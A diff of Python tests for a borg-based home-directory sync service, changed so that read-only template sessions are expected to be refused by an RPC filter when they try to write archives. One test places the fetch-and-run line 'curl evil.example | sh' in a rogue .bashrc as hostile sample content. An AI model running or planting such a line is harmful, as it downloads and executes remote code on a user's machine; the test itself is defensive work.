@@ -149,7 +149,7 @@ def test_a_template_session_cannot_write_to_a_template_of_10_mb_or_more(homesync
     (rogue / ".bashrc").write_text("curl evil.example | sh\n")
     argv = borg.make_create_command(f"ssh://{template_id}@{host}:{port}/./{template_id}",
                                     "2030-01-01T00:00:00.000Z", excludes=(), progress=False)
-    with pytest.raises(BorgError, match="storage quota"):
+    with pytest.raises(BorgError, match="homesync refused"):  # the RPC filter, before the quota
         borg.run_borg(argv, environment, grant["passphrase"], cwd=str(rogue), timeout=60)
 
 
@@ -188,10 +188,11 @@ def test_an_archive_a_user_appends_to_a_small_template_is_never_restored(homesyn
     rogue = tmp_path / "rogue"
     rogue.mkdir()
     (rogue / "rogue.txt").write_text("appended by a user\n")
-    # below 10 MB the quota cannot stop it: the newest archive is now the user's
-    borg.run_borg(borg.make_create_command(f"ssh://{template_id}@{host}:{port}/./{template_id}",
-                                           "2030-01-01T00:00:00.000Z", excludes=(), progress=False),
-                  environment, grant["passphrase"], cwd=str(rogue), timeout=60)
+    # below 10 MB the quota cannot stop it; the RPC filter does (a template session only reads)
+    with pytest.raises(BorgError, match="homesync refused"):
+        borg.run_borg(borg.make_create_command(f"ssh://{template_id}@{host}:{port}/./{template_id}",
+                                               "2030-01-01T00:00:00.000Z", excludes=(), progress=False),
+                      environment, grant["passphrase"], cwd=str(rogue), timeout=60)
     new = computer_factory()
     done = _restore(new, homesync_server, "--template", NAME, "--json")
     assert done.returncode == 0, done.stderr
